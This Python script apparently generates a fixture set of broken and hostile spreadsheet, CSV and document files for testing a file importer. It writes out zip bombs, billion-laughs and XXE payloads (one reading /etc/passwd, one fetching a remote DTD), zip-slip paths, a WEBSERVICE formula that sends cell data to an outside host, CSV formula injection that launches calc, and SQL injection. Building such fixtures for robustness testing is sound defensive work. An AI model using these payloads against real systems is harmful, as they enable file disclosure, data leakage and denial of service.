#!/usr/bin/python3
"""mkbad.py FOLDER: writes the broken and hostile files of EXPECT.tsv into FOLDER.

The same bytes each time. Needs nothing but python3-minimal.
"""

import io
import os
import struct
import sys
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SHEET = "xl/worksheets/sheet1.xml"
ODF = "urn:oasis:names:tc:opendocument:xmlns"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")
TYPES = (f'<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types">'
         '<Default Extension="xml" ContentType="application/xml"/></Types>').encode()
WORKBOOK = (f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()
RELATIONS = (f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
             f'Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>').encode()


def inline(text):
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'


def sheet(rows=inline("Anna"), prolog="", after=""):
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN}">'
            f'<sheetData>{rows}</sheetData>{after}</worksheet>').encode()


def zipped(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts:
            entry = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.filename = name  # the constructor would put / for a backslash
            archive.writestr(entry, content)
    return out.getvalue()


def workbook(content, *more):
    return zipped([("[Content_Types].xml", TYPES), (SHEET, content), ("xl/workbook.xml", WORKBOOK),
                   ("xl/_rels/workbook.xml.rels", RELATIONS), *more])


def patched(data, at, new):
    return data[:at] + new + data[at + len(new):]


def directory_entry(data, number=0):
    """Where the entry with this number stands in the central directory."""
    at = -1
    for _ in range(number + 1):
        at = data.index(b"PK\1\2", at + 1)
    return at


def archives():
    good = workbook(sheet())
    yield "ok.xlsx", good
    yield "empty.xlsx", b""
    yield "xlsxnamed.csv", good
    for name, size in (("cut-first", 1), ("cut-ten", 10), ("cut-half", len(good) // 2),
                       ("cut-directory", len(good) - 22), ("cut-last", len(good) - 1)):
        yield name + ".xlsx", good[:size]
    yield "csvnamed.xlsx", b"a,b\n1,2\n"
    yield "pdf.xlsx", b"%PDF-1.7\n%"
    yield "exe.xlsx", b"MZ" + bytes(500)
    yield "enc_ole.xlsx", OLE + bytes(2000)
    yield "html.xls", b"<html><table><tr><td>Anna</td></tr></table></html>"
    header = struct.pack("<16xHHHHH6xIIIII", 0x3E, 3, 0xFFFE, 9, 6, *[0xFFFFFFFF] * 3, 0x1000,
                         0xFFFFFFFF)
    yield "biff_trunc.xls", OLE + header
    yield "ole_loop.xls", OLE + bytes(22) + b"\xFE\xFF\x09\0\x06\0" + bytes(464 + 4 * 128)
    yield "bomb42.xlsx", workbook(sheet(inline("A" * 300_000_000)))
    yield "bombrows.xlsx", workbook(sheet("<row/>" * 30_000_000))
    lie = workbook(sheet("<row/>" * 100_000))
    yield "sizelie.xlsx", patched(lie, directory_entry(lie, 1) + 24, struct.pack("<I", 10))
    yield "manyentries.xlsx", zipped([(f"x/{i}.xml", b"") for i in range(65_000)])
    twice = workbook(sheet(), ("xl/b.xml", sheet()))
    first, last = directory_entry(twice, 1), directory_entry(twice, 4)
    overlap = patched(twice, last + 42, twice[first + 42:first + 46])
    yield "overlap.xlsx", patched(overlap, last + 20, twice[first + 20:first + 28])
    for name, path in (("slip1", "../../../evil.xml"), ("slip2", "/etc/x.xml"),
                       ("slip3", "C:\\x.xml"), ("slip4", "..\\..\\x.xml")):
        yield name + ".xlsx", workbook(sheet(), (path, b"<x/>"))
    yield "dup.xlsx", patched_name(workbook(sheet(), ("xl/worksheets/sheetX.xml", b"<x/>")))
    yield "extlink.xlsx", workbook(sheet(), (
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        rb'<Relationships><Relationship Target="\\192.0.2.1\s\x.xlsx" TargetMode="External"/>'
        rb"</Relationships>"))
    yield "macro.xlsm", workbook(sheet(), ("xl/vbaProject.bin", OLE))
    yield "nosheet.xlsx", zipped([("[Content_Types].xml", TYPES)])
    yield "method99.xlsx", patched(good, directory_entry(good) + 10, b"\x63\0")
    yield "zipenc.xlsx", patched(good, directory_entry(good) + 8, b"\1")
    yield "polyglot.xlsx", b"GIF89a" + bytes(100) + good
    yield "nestedzip.xlsx", workbook(sheet(), ("a.zip", good))


def patched_name(data):
    """Two entries of the same name: zipfile would only warn, so they differ until here."""
    return data.replace(b"sheetX.xml", b"sheet1.xml")


def sheets():
    entity = '<row><c t="inlineStr"><is><t>{}</t></is></c></row>'
    laughs = '<!DOCTYPE l [<!ENTITY a "ha">'
    for i in range(9):
        laughs += f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'
    yield "laughs", sheet(entity.format("&j;"), laughs + "]>")
    quadratic = '<!DOCTYPE l [<!ENTITY a "' + "A" * 50_000 + '">]>'
    yield "quad", sheet(entity.format("&a;" * 50_000), quadratic)
    local = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield "xxe_file", sheet(entity.format("&x;"), local)
    yield "xxe_net", sheet("<row/>", '<!DOCTYPE l SYSTEM "http://192.0.2.1/x.dtd">')
    yield "deep", sheet("<a>" * 200_000 + "</a>" * 200_000)
    yield "attrs", sheet("<row " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>")
    yield "longcell", sheet(inline("A" * 40_000))
    yield "rownum", sheet(
        '<row r="1048577"><c r="A1048577"><v>1</v></c></row>'
        '<row r="4294967297"><c r="ZZZZZZ99999999999"><v>1</v></c></row>'
        '<row r="-1"><c r="@0"><v>1</v></c></row>')
    yield "columns", sheet('<row r="1">' + "<c><v>1</v></c>" * 16_384 + "</row>")
    yield "ssidx", sheet('<row r="1"><c r="A1" t="s"><v>4294967295</v></c>'
                         '<c r="B1" t="s"><v>-1</v></c><c t="s"><v>x</v></c></row>')
    merge = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield "merge", sheet(after=merge)
    yield "dim", sheet().replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    yield "formula", sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/"&amp;B1)</f>'
                           '<v>Anna</v></c></row>')
    yield "utf16", sheet().decode().replace("UTF-8", "UTF-16").encode("utf-16")
    yield "badutf8", sheet().replace(b"Anna", b"An\xff\xfea")
    yield "nul", sheet().replace(b"Anna", b"An\0a")
    yield "nulref", sheet(inline("An&#0;a"))
    yield "surr", sheet(inline("&#xD800;"))


def texts():
    yield "empty", b""
    yield "bomonly", b"\xef\xbb\xbf"
    yield "openquote", b'name,phone\n"Anna,+43\nBert,1\n'
    yield "nul", b"name\0,phone\nAn\0na,1\n"
    yield "utf16le", "name,phone\nÄnna,1\n".encode("utf-16")
    yield "utf16nobom", "name;phone\nÄnna;1\n".encode("utf-16-le")
    yield "cp1252", "name;phone\nMüller;1\n".encode("cp1252")
    yield "cp852", "name;phone\nŽižka;1\n".encode("cp852")
    yield "tcvn3", "Hä tªn;§¬n vÞ\nNguyÔn ThÞ;Tr­êng\n".encode("latin-1")
    yield "vni", "Hoï teân;Ñôn vò\nNguyeãn Thò;Tröôøng\n".encode("latin-1")
    yield "crlfmix", b"a,b\r1,2\n3,4\r\n5,6"
    yield "cols", b"," * 200_000 + b"\n1\n"
    yield "longline", b"a" * 50_000_000
    yield "rows", b"a\n" * 3_000_000
    yield "ragged", b"a,b\n1\n1,2,3,4\n\n,\n"
    yield "inject", b"name,phone\n\"=cmd|' /C calc'!A0\",1\n@SUM(1),2\n-2+3,3\n\t=1,4\n"
    yield "sep", b"sep=;\nname;phone\nA;1\n"
    yield "bidi", "name,phone\nAn\u202ena,1\nA\u200bnna,2\nAnna\u0301,3\n".encode()
    yield "html", b'name\n"<img src=http://192.0.2.1/x><b>Anna</b>"\n'
    yield "fmt", b"name\n%s%n%1%2{0}\n"
    yield "sql", b"name\nRobert'); DROP TABLE person;--\n"
    yield "path", b"name,photo\nA,\\\\192.0.2.1\\s\\p.png\nB,../../x.png\nC,file:///etc/passwd\n"
    yield "date", b"name,born\nA,0000-00-00\nB,9999999999\nC,31.02.2026\nD,1e308\n"


def open_document(kind, body, styles="", *more):
    content = (f'<office:document-content xmlns:office="{ODF}:office:1.0" '
               f'xmlns:table="{ODF}:table:1.0" xmlns:text="{ODF}:text:1.0" '
               f'xmlns:style="{ODF}:style:1.0"><office:automatic-styles>{styles}'
               f'</office:automatic-styles><office:body><office:{kind}>{body}</office:{kind}>'
               '</office:body></office:document-content>').encode()
    return zipped([("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
                   ("content.xml", content), *more])


def table(cell="", row="", text="Anna"):
    return (f'<table:table><table:table-row {row}><table:table-cell {cell}><text:p>{text}</text:p>'
            '</table:table-cell></table:table-row></table:table>')


def document(body, prolog=""):
    return zipped([("word/document.xml", (f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="w">'
                                          f'{body}</w:document>').encode())])


def paragraph(text="Anna"):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def documents():
    """OpenDocument and .docx."""
    rows, columns = 'table:number-rows-repeated="1048576"', "table:number-columns-repeated="
    manifest = b"<m><file-entry><encryption-data/></file-entry></m>"
    yield "ok.ods", open_document("spreadsheet", table())
    yield "ok.odt", open_document("text", table())
    yield "ok.docx", document(f"<w:body>{paragraph()}</w:body>")
    yield "odsnamed.xlsx", open_document("spreadsheet", table())
    yield "repeat.ods", open_document("spreadsheet", table(columns + '"16384"', rows))
    yield "repeat1024.ods", open_document("spreadsheet", table(columns + '"1024"', rows))
    yield "repeat.odt", open_document("text", table(columns + '"1024"', rows))
    yield "repeatempty.ods", open_document(
        "spreadsheet", table() + table(columns + '"16384"', rows, text=""))
    yield "spaces.ods", open_document("spreadsheet", table(text='<text:s text:c="2000000000"/>'))
    yield "noparts.ods", open_document("spreadsheet", "")
    yield "cut.ods", open_document("spreadsheet", table())[:300]
    yield "encrypted.ods", zipped(
        [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
         ("content.xml", bytes(range(256))), ("META-INF/manifest.xml", manifest)])
    yield "deep.odt", open_document("text", "<text:section>" * 200_000)
    yield "circle.ods", open_document(
        "spreadsheet", table('table:style-name="a"'),
        '<style:style style:name="a" style:family="table-cell" style:parent-style-name="a"/>')
    laughs = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'
    yield "laughs.docx", document(f"<w:body>{paragraph('&b;')}</w:body>", laughs)
    yield "longcell.docx", document(f"<w:body>{paragraph('a' * 40_000)}</w:body>")
    yield "nobody.docx", document("")
    spans = '<w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
    yield "spans.docx", document(f"<w:body><w:tbl><w:tr><w:tc>{spans}{paragraph()}</w:tc><w:tc>"
                                 f"{paragraph()}</w:tc></w:tr></w:tbl></w:body>")
    yield "tables.docx", document("<w:body>" + "<w:tbl><w:tr><w:tc>" * 50_000)


def mutants():
    """Good files with up to five bytes changed."""
    originals = (("csv", dict(texts())["cp1252"]), ("xlsx", workbook(sheet())))
    more = (("ods", open_document("spreadsheet", table())),
            ("docx", document(f"<w:body>{paragraph()}</w:body>")))
    state = 3
    for number in range(600):
        kind, original = (originals if number < 400 else more)[number % 2]
        data = bytearray(original)
        for _ in range(1 + number % 5):
            state = (state * 6364136223846793005 + 1442695040888963407) % 2**64
            data[(state >> 33) % len(data)] = (state >> 25) % 256
        yield f"mut{number:03d}.{kind}", bytes(data)


def all_files():
    yield from archives()
    for name, content in sheets():
        yield name + ".xlsx", workbook(content)
    for name, content in texts():
        yield name + ".csv", content
    yield from documents()
    yield from mutants()


def main():
    for name, content in all_files():
        with open(os.path.join(sys.argv[1], name), "wb") as file:
            file.write(content)


main()
